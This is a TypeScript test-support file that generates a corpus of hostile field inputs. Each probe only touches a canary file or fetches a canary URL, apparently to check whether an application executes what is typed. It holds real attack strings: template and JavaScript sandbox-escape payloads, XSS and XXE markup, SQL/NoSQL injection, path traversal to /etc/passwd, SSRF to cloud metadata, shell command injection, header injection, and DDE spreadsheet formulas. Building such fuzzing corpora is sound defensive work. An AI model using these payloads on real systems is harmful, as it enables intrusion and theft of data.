/**
 * What people who mean harm type into fields. Each text tries to be more than a text: an expression, a template, markup, a
 * query, a path, a header, a formula, a prototype. Where one is executed a canary shows: a sum, a file, a connection.
 */

export interface Canary {
  /** A file that nobody writes. */
  readonly file: string;
  /** An address that nobody asks. */
  readonly url: string;
}

/** What the sums in the texts come to, were they worked out. */
export const workedOut = /canary\s?(5329|73\s?73|true73)/;

const product = '73*73';

function templates(): readonly string[] {
  const marks: readonly (readonly [string, string])[] = [
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%= ', ' %>'],
    ['{%print(', ')%}'],
    ['[[', ']]'],
    ['{{{', '}}}'],
    ['@(', ')'],
    ['*{', '}'],
    ['~{', '}'],
    ['$((', '))'],
    ['`', '`'],
    ['{{=', '}}'],
    ['<#assign x=', `>$${'{x}'}`],
    ['{php}', '{/php}'],
    ['%{', '}'],
    ['$eval(', ')'],
    ['=', ''],
  ];
  return marks.map(([open, close]) => `canary${open}${product}${close}`);
}

function expressions({ file, url }: Canary): readonly string[] {
  const deeds = [
    `require('fs').writeFileSync('${file}','x')`,
    `process.mainModule.require('child_process').execSync('touch ${file}')`,
    `import('node:fs').then(f=>f.writeFileSync('${file}','x'))`,
    `fetch('${url}')`,
    `globalThis.process.binding('spawn_sync')`,
  ];
  const ways = [
    (deed: string) => deed,
    (deed: string) => `this.constructor.constructor("return ${deed.replaceAll('"', "'")}")()`,
    (deed: string) => `{{constructor.constructor("${deed}")()}}`,
    (deed: string) => `\${${deed}}`,
    (deed: string) => `[].map.constructor("${deed}")()`,
    (deed: string) => `(function(){${deed}})()`,
    (deed: string) => `new Function("${deed}")()`,
    (deed: string) => `eval(atob("${Buffer.from(deed).toString('base64')}"))`,
    (deed: string) => `{{={{${deed}}}}}`,
    (deed: string) => `=\`\${${deed}}\``,
  ];
  const feel = [
    'function(x) external {java:{class:"java.lang.Runtime",method signature:"exec"}}',
    'for i in 1..100000000 return i',
    'matches("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!","^(a+)+$")',
    `$${'{"".getClass().forName("java.lang.Runtime")}'}`,
    'if true then canary else 73',
    'get value({a:1},"constructor")',
    '{a:{}.constructor}.a',
  ];
  return [...deeds.flatMap((deed) => ways.map((way) => way(deed))), ...feel];
}

function markup({ url }: Canary): readonly string[] {
  const run = `fetch('${url}')`;
  return [
    `<script>${run}</script>`,
    `"><script>${run}</script>`,
    `'><img src=x onerror="${run}">`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<iframe srcdoc="<script>${run}</script>">`,
    `<a href="javascript:${run}">x</a>`,
    `<details open ontoggle="${run}">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `--><script>${run}</script>`,
    `<body onload=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<meta http-equiv=refresh content="0;url=${url}">`,
    `<link rel=stylesheet href="${url}">`,
    `<style>@import '${url}'</style>`,
    `<base href="${url}">`,
    `<form action="${url}"><button>x`,
    `<object data="${url}">`,
    `<embed src="${url}">`,
    `<video><source onerror="${run}">`,
    `\u003cscript\u003e${run}\u003c/script\u003e`,
    `＜script＞${run}＜/script＞`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<<script>${run}//<</script>`,
    `<img src="x:gif" onerror=${run}//`,
    `<xss style="animation-name:x" onanimationstart="${run}"></xss>`,
    `{{'<script>${run}</script>'}}`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `data:text/html,<script>${run}</script>`,
    `]]><script>${run}</script>`,
    `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x>&e;</x>`,
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "${url}">%p;]>`,
    `[x](javascript:${run})`,
    `![x](${url})`,
    `<img src="${url}">`,
  ];
}

/** Every way to have something run when a browser draws, or somebody touches, what was typed. */
function handlers({ url }: Canary): readonly string[] {
  const events =
    'error load focus blur click mouseover pointerenter pointerrawupdate toggle animationend transitionrun cut';
  const more =
    'beforeinput input search select wheel scroll resize beforeunload hashchange message popstate play ended';
  return `${events} ${more}`
    .split(' ')
    .flatMap((event) => [`<img src=x on${event}=fetch('${url}')>`, `" on${event}="fetch('${url}')" x="`]);
}

function queries(): readonly string[] {
  const tails = ["' or '1'='1", '" or ""="', "' or 1=1 --", "'; drop table case_record; --", "') or ('1'='1"];
  return [
    ...tails,
    ...tails.map((tail) => `PA-261120-0001${tail}`),
    "' union select content from reference --",
    "' and sleep(1) --",
    "' and 1=(select count(*) from account) --",
    "1; attach database '/tmp/x' as x",
    "' || (select password_hash from account limit 1) || '",
    '\\',
    "\\' or 1=1 --",
    '%',
    '_',
    '%%%_%%%',
    '*)(uid=*))(|(uid=*',
    "' or ''='",
    'admin*',
    '{"$ne":null}',
    '{"$gt":""}',
    '[$ne]=1',
    '{"$where":"sleep(1)"}',
    "x' and extractvalue(1,concat(0x7e,version())) --",
    "1e309' or 1=1#",
    'ORDER BY 999',
    '/*!50000 select*/ 1',
  ];
}

function paths({ file, url }: Canary): readonly string[] {
  return [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//etc/passwd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%252f..%252fetc%252fpasswd',
    '/etc/passwd\u0000.jpg',
    '/proc/self/environ',
    `file://${file}`,
    'C:\\boot.ini',
    '\\\\127.0.0.1\\share',
    '.',
    '..',
    '/',
    'con.txt',
    `${url}/x.jpg`,
    `${url.replace('127.0.0.1', 'localhost')}`,
    `${url.replace('127.0.0.1', '0x7f000001')}`,
    `${url.replace('127.0.0.1', '2130706433')}`,
    `${url.replace('127.0.0.1', '[::ffff:127.0.0.1]')}`,
    `${url.replace('127.0.0.1', '127.1')}`,
    'http://169.254.169.254/latest/meta-data/',
    'gopher://127.0.0.1:25/_HELO',
    `|touch ${file}`,
    `;touch ${file};`,
    `$(touch ${file})`,
    `\`touch ${file}\``,
    `&& touch ${file}`,
    `\n/usr/bin/touch ${file}`,
    `<!--#exec cmd="touch ${file}"-->`,
    `() { :;}; touch ${file}`,
  ];
}

function lines(): readonly string[] {
  return [
    'x\r\nBcc: canary@evil.example',
    'x\nSet-Cookie: session=canary',
    'x\r\n\r\n<script>alert(1)</script>',
    'x%0d%0aSet-Cookie:%20session=canary',
    'a@x.example\r\nRCPT TO:<canary@evil.example>',
    'a@x.example,canary@evil.example',
    '"a"@x.example <canary@evil.example>',
    'a@x.example;canary@evil.example',
    'x\u2028Bcc: canary@evil.example',
    'x\u0085Bcc: canary@evil.example',
    '\u560d\u560aSet-Cookie: session=canary',
    'x\r\n.\r\nMAIL FROM:<canary@evil.example>',
    'Subject: x\nContent-Type: text/html',
    '2026-11-20 INFO canary signed in\n2026-11-20 INFO x',
    '\u001b[2J\u001b[1;1Hcanary',
    '\u0007\b\u007f',
  ];
}

function formulas({ url }: Canary): readonly string[] {
  return [
    `=HYPERLINK("${url}","x")`,
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    `=WEBSERVICE("${url}")`,
    '=IMPORTXML("http://x","//a")',
    '"=1+1',
    ';=1+1',
    '＝1+1',
    '=DDE("cmd","/C calc","x")',
    '%0A=1+1',
  ];
}

function prototypes(): readonly string[] {
  return [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'constructor.prototype',
    '__proto__.polluted',
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    '[object Object]',
    'null',
    'undefined',
    'NaN',
    'true',
    'then',
    'length',
  ];
}

function texts(): readonly string[] {
  return [
    'a\u202egpj.exe',
    '\u202e\u202d\u2066canary\u2069',
    '\u200b\u200c\u200d\ufeff',
    'Ｇｏｏｇｌｅ',
    'аdmin',
    'Z\u0351\u036b\u0343\u036a'.repeat(40),
    '\u0301'.repeat(300),
    '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67'.repeat(100),
    '\ud800',
    '\udc00x',
    'x\ud83d',
    '\ufffe\uffff',
    '\ufdfd'.repeat(50),
    'ß'.repeat(500),
    'İ'.repeat(300),
    'x'.repeat(5_000),
    'Ố'.repeat(5_000),
    ' '.repeat(3_000),
    '\n'.repeat(3_000),
    'a '.repeat(2_000),
    `${'a'.repeat(40)}!`,
    `${'('.repeat(500)}`,
    `${'['.repeat(200)}${']'.repeat(200)}`,
    '0912345678'.repeat(100),
    '\u0000',
    'x\u0000y',
    '1e308',
    '-1e308',
    '1e999',
    '9007199254740993',
    '-9223372036854775809',
    '0x7fffffffffffffff',
    '00000000000000000000000000000000000001',
    '1_000',
    '٣٤٥',
    '१२३',
    '½',
    '-0',
    'Infinity',
    '2026-02-30T25:61:61Z',
    '+275760-09-13T00:00:00.001Z',
    '9999-99-99',
    'P999999999Y',
    '<',
    '&',
    '"',
    "'",
    '',
  ];
}

/** All of them, each once. */
export function hostileTexts(canary: Canary): readonly string[] {
  return [
    ...new Set([
      ...templates(),
      ...expressions(canary),
      ...markup(canary),
      ...handlers(canary),
      ...queries(),
      ...paths(canary),
      ...lines(),
      ...formulas(canary),
      ...prototypes(),
      ...texts(),
    ]),
  ];
}
